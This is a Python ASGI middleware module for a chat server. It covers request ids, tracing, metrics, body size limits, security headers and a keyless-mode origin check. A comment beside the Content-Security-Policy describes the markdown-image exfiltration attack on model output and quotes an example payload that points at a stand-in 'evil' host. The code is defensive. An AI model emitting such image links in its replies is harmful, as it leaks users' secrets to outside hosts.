"""ASGI middleware: request ids, trace context for logs, access logs, HTTP metrics, the request
body size limit, security headers and the keyless-mode origin check.

Written as plain ASGI (not BaseHTTPMiddleware) so streaming responses pass through untouched
and a client disconnect still reaches the endpoint.
"""

from __future__ import annotations

import time
import uuid

import structlog
from opentelemetry import context as otel_context
from opentelemetry import propagate, trace
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from chatworks.api.errors import APIError, error_response
from chatworks.security.exposure import foreign_request
from chatworks.telemetry import metrics
from chatworks.telemetry.logging import get_logger

log = get_logger("chatworks.http")

REQUEST_ID_HEADER = b"x-request-id"


def _route_label(scope: Scope) -> str:
    """The route template (`/v1/models`), never the raw path, to keep label cardinality low."""
    route = scope.get("route")
    if route is not None and hasattr(route, "path"):
        return route.path
    return "/static" if scope.get("path", "").startswith("/static/") else "unmatched"


def _carrier(scope: Scope) -> dict[str, str]:
    """Request headers for the W3C propagator (`traceparent`, `tracestate`, `baggage`)."""
    return {k.decode("latin-1"): v.decode("latin-1") for k, v in scope["headers"]}


class HttpMiddleware:
    """Base of the plain-ASGI middleware here and in `api/cache.py`, `api/quota.py`: lifespan
    messages pass through untouched, and each HTTP request goes to `handle`."""

    def __init__(self, app: ASGIApp):
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            await self.handle(scope, receive, send)
        else:
            await self.app(scope, receive, send)

    async def handle(self, scope: Scope, receive: Receive, send: Send) -> None:
        raise NotImplementedError


class RequestContext(HttpMiddleware):
    """Binds a request id (taken from `X-Request-ID` or made up), returns it in the response,
    logs one line per request and counts it in the HTTP metrics."""

    async def handle(self, scope: Scope, receive: Receive, send: Send) -> None:
        headers = dict(scope["headers"])
        incoming = headers.get(REQUEST_ID_HEADER, b"").decode("latin-1")
        request_id = incoming[:128] if incoming.isprintable() and incoming else uuid.uuid4().hex
        started = time.perf_counter()
        status = 500
        size_in = headers.get(b"content-length", b"")
        metrics.HTTP_IN_FLIGHT.inc()
        # FastAPI's own telemetry opens the server span (the client's `traceparent` as parent)
        # when tracing is configured. When it is not, the client's context is still made
        # current, so log lines carry the client's trace id.
        token = None
        if not trace.get_current_span().get_span_context().is_valid:
            token = otel_context.attach(propagate.extract(_carrier(scope)))

        async def send_with_id(message: Message) -> None:
            nonlocal status
            if message["type"] == "http.response.body":
                sent_bytes.append(len(message.get("body", b"")))
            elif message["type"] == "http.response.start":
                status = message["status"]
                message["headers"] = [
                    *message.get("headers", []),
                    (REQUEST_ID_HEADER, request_id.encode("latin-1")),
                ]
                metrics.HTTP_LATENCY.labels(_route_label(scope), scope["method"]).observe(
                    time.perf_counter() - started
                )
            await send(message)

        sent_bytes: list[int] = []
        structlog.contextvars.bind_contextvars(request_id=request_id)
        try:
            await self.app(scope, receive, send_with_id)
        finally:
            log.info(
                "http_request",
                method=scope["method"],
                route=_route_label(scope),
                status=status,
                latency_ms=round((time.perf_counter() - started) * 1000, 1),
            )
            if token is not None:
                otel_context.detach(token)
            metrics.HTTP_IN_FLIGHT.dec()
            route = _route_label(scope)
            metrics.HTTP_REQUESTS.labels(route, scope["method"], str(status)).inc()
            if size_in.isdigit():
                metrics.HTTP_REQUEST_SIZE.labels(route).observe(int(size_in))
            metrics.HTTP_RESPONSE_SIZE.labels(route).observe(sum(sent_bytes))
            structlog.contextvars.unbind_contextvars("request_id")


class BodySizeLimit(HttpMiddleware):
    """Rejects request bodies over `max_bytes` with 413, by header or while reading."""

    def __init__(self, app: ASGIApp, max_bytes: int):
        super().__init__(app)
        self.max_bytes = max_bytes

    async def handle(self, scope: Scope, receive: Receive, send: Send) -> None:
        declared = dict(scope["headers"]).get(b"content-length")
        if declared is not None and declared.isdigit() and int(declared) > self.max_bytes:
            await self._reject(scope, receive, send)
            return
        seen = 0

        async def counting_receive() -> Message:
            nonlocal seen
            message = await receive()
            seen += len(message.get("body", b""))
            if seen > self.max_bytes:
                raise self._too_large()
            return message

        await self.app(scope, counting_receive, send)

    def _too_large(self) -> APIError:
        return APIError(413, f"request body exceeds {self.max_bytes} bytes", "request_too_large")

    async def _reject(self, scope: Scope, receive: Receive, send: Send) -> None:
        await error_response(self._too_large())(scope, receive, send)


# The UI's policy. Model output is rendered by web/static/markdown.js, which emits no <img>
# and escapes all HTML; the policy is the second wall if that ever fails: no script but the
# UI's own files (no inline script, no eval), and images only from this origin or data: URLs,
# so a markdown image pointing at another host (`![x](https://evil/?q=secret)`, the
# exfiltration attack) could not load. Inline styles stay allowed: index.html and the
# renderer set a few, and styles cannot run code. /docs (Swagger UI, from a CDN) is left out.
UI_POLICY = (
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
    "img-src 'self' data:; connect-src 'self'; font-src 'self'; object-src 'none'; "
    "base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
_UI_HEADERS = [
    (b"content-security-policy", UI_POLICY.encode()),
    (b"x-frame-options", b"DENY"),
    (b"referrer-policy", b"no-referrer"),
]


class SecurityHeaders(HttpMiddleware):
    """`X-Content-Type-Options: nosniff` on every response; the UI's pages and files (`/`,
    `/static/...`) also get its Content-Security-Policy, no framing and no referrer."""

    async def handle(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = scope.get("path", "")
        extra = [(b"x-content-type-options", b"nosniff")]
        if path == "/" or path.startswith("/static/"):
            extra += _UI_HEADERS

        async def send_with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                message["headers"] = [*message.get("headers", []), *extra]
            await send(message)

        await self.app(scope, receive, send_with_headers)


class LocalOnly(HttpMiddleware):
    """With auth off on a loopback bind, refuses (403) requests that come through another host
    name or from another site's page (`security.exposure.foreign_request`). Probes and
    scrapers send neither an odd `Host` nor an `Origin`, so they pass."""

    async def handle(self, scope: Scope, receive: Receive, send: Send) -> None:
        headers = dict(scope["headers"])
        host, origin = headers.get(b"host"), headers.get(b"origin")
        reason = foreign_request(
            host.decode("latin-1") if host is not None else None,
            origin.decode("latin-1") if origin is not None else None,
        )
        if reason is None:
            await self.app(scope, receive, send)
            return
        metrics.AUTH_FAILURES.labels(reason).inc()
        message = (
            "this keyless server answers only requests to a loopback address"
            if reason == "host_not_allowed"
            else "cross-origin requests are refused while auth is off"
        )
        await error_response(APIError(403, message, reason))(scope, receive, send)
